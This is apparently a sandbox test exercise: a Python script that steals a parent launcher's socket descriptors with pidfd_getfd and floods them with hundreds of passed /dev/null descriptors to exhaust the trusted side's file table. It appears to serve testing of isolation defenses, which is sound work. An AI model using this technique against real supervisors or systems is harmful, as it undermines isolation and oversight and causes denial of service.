# exercise: ledger
"""Sends hundreds of open files over every socket that leads to the launcher's other side.

Aims: a trusted side that runs out of descriptors.
Ends: not_yet or could_not_tell
"""

import ctypes
import os
import socket
import stat
import struct

libc = ctypes.CDLL(None, use_errno=True)
handle = libc.syscall(434, os.getppid(), 0)  # pidfd_open
null = os.open("/dev/null", os.O_RDONLY)
body = b'{"event": "warm"}'
for number in range(3, 64):
    copy = libc.syscall(438, handle, number, 0)  # pidfd_getfd
    if copy > 0 and stat.S_ISSOCK(os.fstat(copy).st_mode):
        channel = socket.socket(fileno=copy)
        channel.setblocking(False)
        try:
            for _ in range(200):
                socket.send_fds(channel, [struct.pack("!I", len(body)) + body], [null] * 200)
        except OSError:
            continue
# app: shipped
